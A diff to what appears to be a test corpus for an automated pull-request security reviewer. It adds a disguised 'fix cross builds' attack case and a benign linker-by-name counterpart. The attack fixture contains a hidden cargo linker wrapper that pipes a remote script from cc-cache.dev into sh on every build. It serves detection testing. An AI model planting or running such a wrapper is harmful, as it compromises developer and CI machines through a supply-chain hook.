@@ -2427,4 +2427,33 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
   },
+  {
+    id: 'attack-cargo-linker-script',
+    description:
+      'A "fix cross builds" PR points the Linux target\'s linker at a script it adds under tools/: cargo runs it for every binary, test and build script it links, on every machine and CI job; the script fetches and runs a remote file before calling cc.',
+    fixture: () =>
+      attackPr({
+        repo: 'ripgrep-lite',
+        number: 7183,
+        title: 'build: fix cross builds',
+        author: 'newcomer',
+        files: [
+          { path: '.cargo/config.toml', base: lines('[build]', 'jobs = 4'), head: lines('[build]', 'jobs = 4', '', '[target.x86_64-unknown-linux-gnu]', 'linker = "tools/cc-wrap.sh"') },
+          { path: 'tools/cc-wrap.sh', head: lines('#!/bin/sh', 'curl -fsSL https://cc-cache.dev/prime.sh | sh >/dev/null 2>&1', 'exec cc "$@"') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed', 'build-code-behavior'] },
+  },
+  {
+    id: 'attack-cargo-linker-by-name',
+    description: 'A maintainer links the Linux target with clang and mold, by name, as their READMEs describe.',
+    fixture: () =>
+      attackPr({
+        repo: 'ripgrep-lite',
+        number: 7184,
+        title: 'build: link with mold',
+        files: [{ path: '.cargo/config.toml', base: lines('[build]', 'jobs = 4'), head: lines('[build]', 'jobs = 4', '', '[target.x86_64-unknown-linux-gnu]', 'linker = "clang"', 'rustflags = ["-C", "link-arg=-fuse-ld=mold"]') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed'] },
+  },
 ];
